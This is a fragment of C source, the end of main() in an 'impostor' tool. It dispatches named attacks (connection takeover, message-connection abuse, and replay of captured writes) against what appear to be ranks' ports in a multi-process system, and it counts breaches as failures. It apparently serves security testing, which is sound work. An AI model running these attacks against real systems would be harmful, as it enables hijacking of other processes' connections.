        case 'N': nranks = atoi(optarg); break;
        case 'l': listen_s = atof(optarg); break;
        default: usage();
        }
    }
    if (!attacks || nports0 == 0)
        usage();
    if (capture_path)
        say("impostor: capture %s: %zu recorded writes\n", capture_path,
            load_capture(capture_path));
    say("impostor: uid %u, attacks %s, rank 0 has %zu ports, rank 1 %zu\n",
        (unsigned)getuid(), attacks, nports0, nports1);
    int ret = 0;
    char *dup = strdup(attacks), *save = NULL;
    for (char *a = strtok_r(dup, ",", &save); a && ret == 0;
         a = strtok_r(NULL, ",", &save)) {
        if (strcmp(a, "takeover") == 0 && nports1)
            ret = attack_takeover();
        else if (strcmp(a, "msgconn") == 0)
            ret = attack_msgconn();
        else if (strcmp(a, "replay") == 0 && ncw)
            ret = attack_replay();
        else {
            say("impostor: ERROR: attack %s: unknown, or its input (--ports1, "
                "--capture) is missing\n", a);
            ret = 2;
        }
    }
    free(dup);
    say("impostor: done, %lu breach%s seen from here\n", sec_breaches,
        sec_breaches == 1 ? "" : "es");
    if (ret)
        return ret;
    return sec_breaches ? 1 : 0;
}
